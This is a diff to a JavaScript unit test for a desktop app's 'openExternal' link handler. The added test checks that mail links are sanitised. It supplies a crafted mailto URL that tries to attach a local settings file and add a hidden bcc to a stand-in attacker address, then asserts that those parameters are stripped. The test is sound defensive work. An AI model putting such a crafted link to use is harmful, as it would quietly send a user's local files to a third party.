@@ -48,6 +48,13 @@ describe('openExternal handler', () => {
     expect(opened).toEqual(['https://example.com/a%20b?x=1#top', 'mailto:casting@example.com?subject=Audition', 'https://example.com/']);
   });
 
+  it('hands a mail draft to the opener with only subject, body and cc: no attach= of a local file, no hidden recipients', async () => {
+    const { dispatch, opened } = openerBackEnd();
+    const url = 'mailto:casting@example.com?subject=Audition&attach=/home/user/.config/Castdesk/settings.json&bcc=collector@evil.example&body=Hi&cc=agent@example.com';
+    expect(await dispatch('openExternal', { url })).toEqual({ ok: true, value: { opened: true } });
+    expect(opened).toEqual(['mailto:casting@example.com?subject=Audition&body=Hi&cc=agent@example.com']);
+  });
+
   it('says opened: false when no program took the link', async () => {
     const { dispatch, opened } = openerBackEnd(async () => false);
     expect(await dispatch('openExternal', { url: 'https://example.com/' })).toEqual({ ok: true, value: { opened: false } });
